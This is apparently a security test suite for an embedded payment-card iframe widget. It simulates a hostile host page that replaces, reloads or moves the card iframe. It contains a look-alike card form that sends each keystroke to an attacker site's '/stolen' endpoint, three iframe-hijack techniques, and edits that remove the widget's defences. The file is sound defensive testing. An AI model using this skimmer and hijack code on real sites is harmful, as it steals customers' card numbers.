/** What the page does to the iframe itself: sends it elsewhere, loads it again, moves it. */
import { cards, fillCard } from '../../testing/index.ts'
import { type Asked, attack, expect, type Field } from './attack.ts'
import { script, shopPage } from './pages.ts'
import type { Edit } from './weaken.ts'

/** Looks like ours, on the attacker's site; sends each key there, and says by which way it came. It listens before there is a field. */
const lookAlike = (way: string): string => `<body>${script((name) => {
  addEventListener('input', ({ target }) => void fetch(`/stolen?${name}=${(target as HTMLInputElement).value}`))
}, way)}<form id="form"><h1>Harbour Rooms</h1>
<label>Card number <input data-own autocomplete="cc-number"></label></form></body>`

const stolen = ({ site }: Field): string => site.got.map(({ path }) => path).join('\n')

/** A widget that counts no loads, as most do. */
const countsNoLoads: Edit = {
  file: 'widget/handshake.ts',
  take: "if (isBound && loads > reloads + 1) fail('channel.lost')",
  put: '',
}
/** And takes a second hello for another word of the first document. */
const takesEveryHello: Edit = {
  file: 'widget/handshake.ts',
  take: "if (isBound) return fail('channel.lost')",
  put: '',
}

/** The customer's page with the form open; what the element says in the end, or `pending` if it says nothing soon. */
async function open(
  field: Field,
  asked: Asked,
  widget?: string,
): Promise<{ result(): Promise<unknown>; soon(): Promise<unknown> }> {
  const { page, site } = field
  await page.goto(site.page(shopPage(field, widget === undefined ? {} : { widget })))
  const result = page.evaluate((wanted) => window.pay(wanted), asked)
  result.catch(() => {})
  await fillCard(page, cards.visa, { submit: false })
  return { result: () => result, soon: () => Promise.race([result, page.waitForTimeout(400).then(() => 'pending')]) }
}

const ways: Record<string, (to: { address: string; html: string }) => void> = {
  address: ({ address }) => {
    window.card.shadowRoot?.querySelector('iframe')?.setAttribute('src', address)
  },
  window: ({ address }) => {
    window.card.shadowRoot?.querySelector('iframe')?.contentWindow?.location.replace(address)
  },
  html: ({ html }) => {
    window.card.shadowRoot?.querySelector('iframe')?.setAttribute('srcdoc', html)
  },
}

/** The page puts its form into our place. Who types a moment later types into whatever is there by then. */
async function putsItsOwn({ page, site }: Field, way: string, lookedFor: () => Promise<unknown>): Promise<void> {
  const html = lookAlike(way)
  await page.evaluate(ways[way] ?? (() => {}), { address: site.page(html, site.evil), html })
  await lookedFor()
  const theirs = page.frameLocator('sallyport-capture iframe').locator('input[data-own]')
  if ((await page.locator('sallyport-capture iframe').count()) > 0) await theirs.fill(cards.visa.number)
  else await page.keyboard.type(cards.visa.number)
}

attack('The page puts a form of its own into our iframe', {
  had: 'The page, and an attacker site with a form that looks like ours',
  defended: [
    'one load too many ends the request: the iframe is taken away before anything is typed, and no token comes of it',
    async (field) => {
      const { page } = field
      for (const way of Object.keys(ways)) {
        const asked = await field.ask()
        const { result } = await open(field, asked)
        await putsItsOwn(field, way, result)
        expect(await result()).toEqual({ ok: false, code: 'channel.lost' })
        expect(await page.locator('sallyport-capture iframe').count()).toBe(0)
        expect((await field.state(asked)).token).toBeUndefined()
      }
      await page.waitForTimeout(200)
      expect(stolen(field)).not.toContain('4242')
    },
  ],
  undefended: [
    'where loads are not counted, the customer types into the form of the attacker, in our place',
    async (field) => {
      const { page, site } = field
      const { soon } = await open(field, await field.ask(), await site.widgetWithout([countsNoLoads]))
      for (const way of Object.keys(ways)) {
        const there = `sallyport-capture iframe`
        await putsItsOwn(field, way, () => expect.poll(() => page.locator(there).count()).toBe(1))
        await expect.poll(() => stolen(field)).toContain(`${way}=${cards.visa.number}`)
      }
      expect(await soon()).toBe('pending')
    },
  ],
})

const moves: Record<string, () => void> = {
  'loads it again': () => {
    const iframe = window.card.shadowRoot?.querySelector('iframe')
    iframe?.setAttribute('src', iframe.src)
  },
  'moves it out of the element': () => {
    const iframe = window.card.shadowRoot?.querySelector('iframe')
    if (iframe) document.body.append(iframe)
  },
}

attack('The page loads our iframe again, or moves it elsewhere', {
  had: 'The page, while the customer types',
  defended: [
    'a second hello is another document: the request ends, what was typed is gone, and no token comes of it',
    async (field) => {
      const { page } = field
      for (const move of Object.values(moves)) {
        const asked = await field.ask()
        const { result } = await open(field, asked)
        await page.evaluate(move)
        expect(await result()).toEqual({ ok: false, code: 'channel.lost' })
        expect(await page.locator('iframe').count()).toBe(0)
        expect((await field.state(asked)).token).toBeUndefined()
      }
    },
  ],
  undefended: [
    'where a second hello is answered as the first, the page stands before an empty form and hears nothing',
    async (field) => {
      const { page, site } = field
      const { soon } = await open(field, await field.ask(), await site.widgetWithout([countsNoLoads, takesEveryHello]))
      for (const move of Object.values(moves)) {
        await page.evaluate(move)
        expect(await soon()).toBe('pending')
      }
      expect(await page.locator('iframe').count()).toBe(1)
    },
  ],
})

attack('The page moves our iframe out of the element without loading it again', {
  had: 'The page, while the customer types, and `moveBefore`',
  needs: ['`moveBefore`', () => 'moveBefore' in Element.prototype],
  defended: [
    'the document stays closed: no member of it can be read, and the customer pays',
    async (field) => {
      const { page } = field
      const asked = await field.ask()
      await open(field, asked)
      await page.evaluate(() => {
        const iframe = window.card.shadowRoot?.querySelector('iframe')
        if (iframe)
          (document.body as unknown as { moveBefore(node: Node, before: null): void }).moveBefore(iframe, null)
      })
      expect(await page.evaluate(readMoved)).toBe('SecurityError')
      await fillCard(page, cards.visa)
      await expect.poll(async () => (await field.state(asked)).state).toBe('completed')
    },
  ],
  undefended: [
    'a form of the same origin as the page is read in full',
    async (field) => {
      const { page, site } = field
      const form = site.page('<body><input autocomplete="cc-number"></body>')
      await page.goto(site.page(`<body><iframe src="${form}"></iframe></body>`))
      await page.frameLocator('iframe').locator('input').fill(cards.visa.number)
      expect(await page.evaluate(readMoved)).toBe(cards.visa.number)
    },
  ],
})

function readMoved(): string | undefined {
  try {
    return document.querySelector('iframe')?.contentWindow?.document.querySelector('input')?.value
  } catch (error) {
    return (error as Error).name
  }
}
